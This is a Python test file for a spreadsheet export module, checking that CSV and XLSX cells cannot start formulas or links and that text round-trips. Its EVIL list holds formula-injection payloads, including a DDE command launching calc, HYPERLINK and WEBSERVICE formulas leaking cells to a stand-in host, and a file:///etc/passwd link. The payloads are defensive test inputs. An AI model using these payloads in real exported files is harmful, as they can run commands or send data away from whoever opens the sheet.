# ruff: noqa: RUF001  (letters that look like others are the point)
"""T31: rows as files; what strangers wrote stays text in every spreadsheet, and comes back as it was."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.tables import csv_of, guarded, json_of, unguarded, xlsx_of

EVIL = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    " \t +1",
    "\u00a0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "'",
    "''x",
    '"=1+1"',
    '"',
    "=cmd|'/c calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?leak="&A1,"click")',
    '=WEBSERVICE(CONCATENATE("http://x.example/",A2))',
    "{=1+1}",
    "https://x.example/",
    "mailto:a@x.example",
    "internal:Sheet1!A1",
    "file:///etc/passwd",
    "a\nb",
    "a,b;c",
    "plain",
    "",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def rows(*texts):
    return [{"text": text, "number": number} for number, text in enumerate(texts)]


def read_csv(data):
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def read_xlsx(data):
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", EVIL)
def test_no_text_begins_as_a_formula_in_csv_and_comes_back_as_it_was(text):
    (_, (cell, number)) = read_csv(b"".join(csv_of(("text", "number"), rows(text))))
    assert not cell.lstrip().startswith(STARTS) and not cell.startswith(STARTS)
    assert unguarded(cell) == text
    assert number == "0"


def test_no_cell_of_a_workbook_is_a_formula_or_a_link_and_comes_back_as_it_was():
    _, *cells = read_xlsx(b"".join(xlsx_of(("text", "number"), rows(*EVIL))))
    for text, (cell, number) in zip(EVIL, cells, strict=True):
        assert cell.data_type != "f" and cell.hyperlink is None
        assert (cell.value or "").replace("\r", "\n").replace("_x000D_", "\n") == text.replace(
            "\r", "\n"
        )
        assert number.data_type == "n"


@given(st.text(max_size=40))
def test_guarding_any_text_can_be_undone_and_leaves_nothing_that_begins_a_formula(text):
    assert unguarded(guarded(text)) == text
    assert not guarded(text).lstrip().startswith(STARTS)


@given(st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=30), max_size=5))
def test_csv_and_json_give_back_any_text(texts):
    kept = [text.replace("\0", "\ufffd") for text in texts]
    told = read_csv(b"".join(csv_of(("text", "number"), rows(*texts))))
    assert [unguarded(cell) for cell, _ in told[1:]] == kept
    (read,) = [json.loads(b"".join(json_of({"count": len(texts)}, rows(*texts))))]
    assert [row["text"] for row in read["results"]] == texts and read["count"] == len(texts)


def test_what_a_sheet_cannot_hold_is_marked_and_not_lost_in_silence():
    _, (cell, _) = read_xlsx(
        b"".join(xlsx_of(("text", "number"), rows("a\x01\x0b\ufffeb" + "x" * 40_000)))
    )
    assert cell.value.startswith("a\ufffd\ufffd\ufffdb") and cell.value.endswith("…")
    assert len(cell.value) == 32_000


def test_lists_nothing_and_truth_are_written_as_words():
    told = [{"a": ["x", "=y"], "b": None, "c": True, "d": 1.5}]
    assert read_csv(b"".join(csv_of("abcd", told)))[1] == ["x; =y", "", "true", "1.5"]
    assert read_csv(b"".join(csv_of("a", [{"a": ["=x", "y"]}])))[1] == ["'=x; y"]


def test_files_come_in_parts_of_bounded_size():
    told = ({"text": "x" * 1000, "number": n} for n in range(500))
    parts = list(csv_of(("text", "number"), told))
    assert len(parts) > 5 and max(map(len, parts)) < 100_000
